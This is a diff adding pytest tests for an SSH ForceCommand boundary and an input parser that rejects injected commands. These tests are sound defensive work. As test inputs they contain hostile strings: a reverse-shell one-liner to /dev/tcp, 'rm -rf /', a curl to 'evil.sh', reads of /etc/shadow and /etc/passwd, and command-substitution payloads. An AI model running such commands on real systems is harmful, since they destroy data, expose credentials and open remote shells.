@@ -1,0 +1,127 @@
+"""SSH ForceCommand circuit breaker + defensive parser (paper §5.4, §6.1.2).
+
+The security evaluation scenarios of §6.1.2 as executable tests: a stolen
+key / compromised web server can only ever reach the forced entrypoint, and
+the entrypoint's parser rejects every injection shape the paper calls out.
+"""
+import pytest
+
+from repro.core.circuit_breaker import (
+    MAX_ARG_BYTES, MAX_BODY_BYTES, ForceCommandBoundary, ParsedRequest,
+    SecurityViolation, SSHResult, validate_request)
+
+
+# ---------------------------------------------------------------------------
+# validate_request — the defensive parser
+# ---------------------------------------------------------------------------
+
+def test_keepalive():
+    r = validate_request(["KEEPALIVE"])
+    assert r.keepalive and r.method == "GET"
+
+
+def test_valid_request_roundtrip():
+    r = validate_request(
+        "REQ POST /v1/chat/completions llama-3.1-70b STREAM USER u1".split(),
+        b'{"x":1}')
+    assert (r.method, r.path, r.model) == (
+        "POST", "/v1/chat/completions", "llama-3.1-70b")
+    assert r.stream and r.user_id == "u1" and r.body == b'{"x":1}'
+
+
+@pytest.mark.parametrize("argv", [
+    [],
+    ["KEEPALIVE", "extra"],
+    ["EXEC", "rm", "-rf", "/"],
+    ["REQ"],
+    ["REQ", "POST", "/v1/chat/completions"],                 # missing model
+    ["REQ", "DELETE", "/v1/chat/completions", "m"],          # bad method
+    ["REQ", "POST", "/etc/passwd", "m"],                     # path escape
+    ["REQ", "POST", "/v1/admin", "m"],                       # not whitelisted
+    ["REQ", "POST", "/v1/chat/completions", "m", "SUDO"],    # unknown arg
+    ["REQ", "POST", "/v1/chat/completions", "m", "USER"],    # dangling USER
+])
+def test_malformed_rejected(argv):
+    with pytest.raises(SecurityViolation):
+        validate_request(argv)
+
+
+@pytest.mark.parametrize("evil", [
+    "m; rm -rf /",
+    "m`id`",
+    "m$(whoami)",
+    "m|cat /etc/shadow",
+    "m&&curl evil.sh",
+    "m>out",
+    "m<in",
+    "m\\x",
+    "m\nKEEPALIVE",
+    "../../etc/passwd",
+    "m\x00",
+])
+def test_injection_attempts_rejected(evil):
+    """§6.1.2: injection attacks via request parameters must be rejected."""
+    with pytest.raises(SecurityViolation):
+        validate_request(["REQ", "POST", "/v1/chat/completions", evil])
+
+
+def test_eval_never_reachable():
+    """The parser whitelists; nothing resembling shell evaluation exists."""
+    import ast
+    import inspect
+
+    import repro.core.circuit_breaker as cb
+    tree = ast.parse(inspect.getsource(cb))
+    calls = [n.func.id for n in ast.walk(tree)
+             if isinstance(n, ast.Call) and isinstance(n.func, ast.Name)]
+    assert "eval" not in calls and "exec" not in calls
+    imports = [a.name for n in ast.walk(tree)
+               if isinstance(n, ast.Import) for a in n.names]
+    assert "subprocess" not in imports and "os" not in imports
+
+
+def test_size_caps():
+    with pytest.raises(SecurityViolation):
+        validate_request(["REQ", "POST", "/v1/chat/completions",
+                          "m" * (MAX_ARG_BYTES + 1)])
+    with pytest.raises(SecurityViolation):
+        validate_request(["REQ", "POST", "/v1/chat/completions", "m"],
+                         b"x" * (MAX_BODY_BYTES + 1))
+
+
+# ---------------------------------------------------------------------------
+# ForceCommandBoundary — the circuit breaker itself
+# ---------------------------------------------------------------------------
+
+def test_forced_entrypoint_is_the_only_door():
+    calls = []
+
+    def entry(argv, stdin):
+        calls.append((argv, stdin))
+        return SSHResult(0, b"ok")
+
+    b = ForceCommandBoundary(entry)
+    res = b.ssh_exec("KEEPALIVE")
+    assert res.exit_code == 0 and calls[-1][0] == ["KEEPALIVE"]
+    # an attacker-requested command is logged as data, never executed
+    res = b.ssh_exec("rm -rf / --no-preserve-root")
+    assert b.original_commands[-1] == "rm -rf / --no-preserve-root"
+    assert calls[-1][0] == ["rm", "-rf", "/", "--no-preserve-root"]
+
+
+def test_security_violation_becomes_exit_77():
+    def entry(argv, stdin):
+        return SSHResult(0, validate_request(argv, stdin).path.encode())
+
+    b = ForceCommandBoundary(entry)
+    res = b.ssh_exec("bash -i >& /dev/tcp/1.2.3.4/443 0>&1")
+    assert res.exit_code == 77 and b"rejected" in res.stderr
+    ok = b.ssh_exec("REQ GET /v1/models any")
+    assert ok.exit_code == 0
+
+
+def test_link_down_raises():
+    b = ForceCommandBoundary(lambda a, s: SSHResult(0, b""))
+    b.connected = False
+    with pytest.raises(ConnectionError):
+        b.ssh_exec("KEEPALIVE")
